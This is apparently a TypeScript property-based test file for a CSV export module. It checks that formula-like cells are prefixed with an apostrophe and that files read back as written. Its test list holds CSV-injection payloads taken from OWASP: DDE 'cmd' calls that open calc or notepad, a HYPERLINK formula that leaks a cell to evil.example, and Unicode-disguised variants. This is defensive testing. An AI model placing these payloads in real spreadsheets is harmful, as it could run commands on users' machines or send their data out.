// Files for spreadsheets: read back as they were written, and nothing in them runs.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvName, csvOf, guarded, type CsvCell, type Separator } from '../../../src/domain/report/csv';

const separators: readonly Separator[] = [',', ';', '\t'];

/** An independent reader after RFC 4180. */
function read(text: string, separator: string): string[][] {
  const lines: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at] ?? '';
    if (isQuoted) {
      if (letter !== '"') cell += letter;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (letter === '"' && cell === '') isQuoted = true;
    else if (letter === separator) {
      lines.at(-1)?.push(cell);
      cell = '';
    } else if (letter === '\r' && text[at + 1] === '\n') {
      lines.at(-1)?.push(cell);
      lines.push([]);
      cell = '';
      at += 1;
    } else cell += letter;
  }
  return lines.slice(0, -1);
}

/** From OWASP's page on CSV injection and known payloads. */
const attacks = [
  '=1+1',
  '=1+1";=1+2',
  `=1+2'" ;,=1+2`,
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1,"click")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "+cmd|' /C notepad'!A1",
  '+1+1',
  '-2+3+cmd|" /C calc"!D2',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '|cmd',
  '%0A-3+3+cmd|" /C calc"!D2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u2060 \u200f@SUM(1)',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '｜cmd',
  '％0A',
  '\u3000＝1+1',
  '﹦1',
  '−1+1',
  '=\u03381+1',
];

describe('a text', () => {
  it.each(attacks)('%j that a spreadsheet would run gets an apostrophe, and nothing of it is lost', (attack) => {
    expect(guarded(attack)).toBe(`'${attack}`);
    for (const separator of separators) {
      const file = csvOf([['a', attack, 'b']], separator);
      expect(read(file.slice(1), separator)).toEqual([['a', `'${attack}`, 'b']]);
    }
  });

  it.each(['Seat 7', 'Quiet Kite', 'a=b', '“=1”', '1 + 1', "'=1", 'ظرف هادئ', '5%', '', 'x\n=1'])(
    '%j that is harmless stays as it is',
    (text) => expect(guarded(text)).toBe(text),
  );

  it('never begins a cell with what runs, whatever stands before it', () => {
    const blank = fc.constantFrom(' ', '\t', '\u00a0', '\u200b', '\u200f', '\u2060', '\ufeff', '\u3000', '\u2028');
    const trigger = fc.constantFrom(...'=+-@|%＝＋－＠｜％'.split(''));
    fc.assert(
      fc.property(fc.array(blank), trigger, fc.string(), (blanks, sign, rest) => {
        expect(guarded(blanks.join('') + sign + rest).startsWith("'")).toBe(true);
      }),
    );
  });
});

describe('a file', () => {
  const cell: fc.Arbitrary<CsvCell> = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom('"', ',', ';', '\t', '\r', '\n', ' ', 'a', '=', "'") }),
    fc.nat(9999),
    fc.constant(null),
  );

  it('reads back as it was written, with each separator', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 6 }),
        fc.constantFrom(...separators),
        (lines, separator) => {
          const file = csvOf(lines, separator);
          expect(file.startsWith('\ufeff')).toBe(true);
          const shown = (value: CsvCell) =>
            value === null ? '' : typeof value === 'number' ? `${value}` : guarded(value);
          expect(read(file.slice(1), separator)).toEqual(lines.map((line) => line.map(shown)));
        },
      ),
    );
  });

  it('has numbers as numbers and lines that end as the standard says', () => {
    expect(
      csvOf(
        [
          ['Seat 1', 12, null],
          ['a "b"', 0, 'c,d'],
        ],
        ',',
      ),
    ).toBe('\ufeffSeat 1,12,\r\n"a ""b""",0,"c,d"\r\n');
    expect(csvOf([['c,d', 1]], ';')).toBe('\ufeffc,d;1\r\n');
    expect(csvOf([['c,d', 1]], '\t')).toBe('\ufeffc,d\t1\r\n');
  });

  it('is called by its class and day', () => {
    expect(csvName(['M43P', '2026-11-22'], ',')).toBe('kindlight_M43P_2026-11-22.csv');
    expect(csvName(['M43P', '2026-11-22', 'class'], '\t')).toBe('kindlight_M43P_2026-11-22_class.tsv');
  });
});
